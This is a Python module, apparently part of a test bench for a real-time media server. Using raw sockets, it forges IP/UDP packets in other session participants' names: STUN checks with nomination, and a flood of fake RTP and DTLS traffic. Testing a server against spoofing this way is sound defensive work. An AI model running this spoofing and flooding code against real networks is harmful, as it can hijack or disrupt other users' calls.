"""
Attacks in a stranger's name: datagrams that say they come from where strangers talk.

Many networks let a packet out whatever address it names as its own, and where somebody sits other
people may know. Where all connections share one port they are told apart by the address alone.
Needs the right to write whole IP packets (root). Sources: RFC 791, RFC 768.
"""

import os
import socket
import struct
from abc import abstractmethod
from itertools import count, cycle, islice

from bench.siege import stun
from bench.siege.attack import Attack
from bench.siege.foothold import Foothold
from bench.siege.inside import dtls_garbage
from bench.siege.peer import Peer

IP, UDP = struct.Struct("!BBHHHBBH"), struct.Struct("!HHHH")
CHECKS = 40  # a second: fewer than a browser sends while it looks for its way
MEDIA = 10_000  # a second: many times what a browser may send
MEDIA_BYTES = 200
DEED = "datagrams in a stranger's name"


class Forged(Attack):
    """By turns in the name of each end of the talk."""

    tabs = 1
    rate: int

    @classmethod
    def is_possible(cls) -> bool:
        try:
            _raw().close()
        except PermissionError:
            return False
        return True

    def claims(self, seconds: float) -> dict[str, float]:
        return {DEED: self.rate * seconds}

    @abstractmethod
    def made(self, peer: Peer, number: int) -> bytes:
        """One of the datagrams."""

    def run(self, guest: Foothold) -> None:
        peer = guest.connected(guest.tabs[0])
        strangers, numbers = cycle(guest.target.strangers), count()
        with _raw() as writer:

            def send(due: int) -> None:
                peer.keep()
                for stranger in islice(strangers, due):
                    datagram = self.made(peer, next(numbers))
                    writer.sendto(_packet(stranger, peer.there, datagram), peer.there)
                    guest.done[DEED] += 1

            guest.at_rate(self.rate, send)
        peer.close()


class ForgedChecks(Forged):
    """The guest's own checks, right in everything: is what comes from there the guest's now?"""

    name = "forged-checks"
    rate = CHECKS

    def made(self, peer: Peer, number: int) -> bytes:
        return stun.check(peer.username, peer.key, nominates=True)


class ForgedMedia(Forged):
    """What looks like media, reports and DTLS, under nobody's keys: is the stranger still heard?"""

    name = "forged-media"
    rate = MEDIA

    def made(self, peer: Peer, number: int) -> bytes:
        if number % 10 == 0:
            return dtls_garbage(number)
        kind = 200 if number % 10 == 1 else 96 + number % 16
        return bytes([0x80, kind]) + os.urandom(MEDIA_BYTES)


def _raw() -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def _packet(sender: tuple[str, int], there: tuple[str, int], payload: bytes) -> bytes:
    """An IP packet with one datagram; the system fills in what is 0."""
    hosts = socket.inet_aton(sender[0]) + socket.inet_aton(there[0])
    head = IP.pack(0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + hosts
    return head + UDP.pack(sender[1], there[1], UDP.size + len(payload), 0) + payload
